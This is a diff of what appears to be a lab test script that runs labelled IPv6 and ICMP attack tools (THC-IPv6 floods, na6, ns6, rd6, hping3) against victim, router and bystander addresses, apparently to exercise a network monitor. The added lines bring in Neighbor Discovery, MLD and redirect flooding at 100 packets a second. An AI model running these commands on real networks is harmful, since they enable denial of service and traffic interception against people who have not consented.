@@ -88,7 +88,12 @@ tool nd-spoof na6 -i eth0 -d "$BYSTANDER6" -t "$MONITOR6" -E "$ATTACKER_LINK" -o
 tool nd-flood atk6-flood_advertise6 eth0 "$BYSTANDER6"
 tool nd-flood atk6-flood_solicitate6 -k eth0 "$BYSTANDER6" "$BYSTANDER6"
 tool nd-flood atk6-flood_rs6 eth0
-tool mld-probe,nd-flood atk6-flood_mld6 eth0
+# A hundred senders a second.
+tool nd-flood na6 -i eth0 -F 100 -d "$BYSTANDER6" -t "$BYSTANDER6" -e -l -z 1
+tool nd-flood ns6 -i eth0 -F 100 -d "$BYSTANDER6" -t "$BYSTANDER6" -l -z 1
+tool nd-flood atk6-flood_mld6 eth0
+tool nd-flood atk6-flood_mldrouter6 eth0
+tool redirect atk6-flood_redir6 eth0
 tool redirect atk6-redir6 eth0 "$BYSTANDER6" "$VICTIM6" "$ROUTER6" "$attacker_address" "$ATTACKER_LINK"
 tool redirect rd6 -i eth0 -s "$ROUTER6" -d "$BYSTANDER6" -r "$VICTIM6" -t "$attacker_address" -E "$ATTACKER_LINK" -l -z 1
 tool redirect hping3 -q --icmp -C 5 -K 1 --icmp-gw "$ATTACKER" --icmp-ipsrc "$BYSTANDER" --icmp-ipdst "$VICTIM" -a "$ROUTER" \
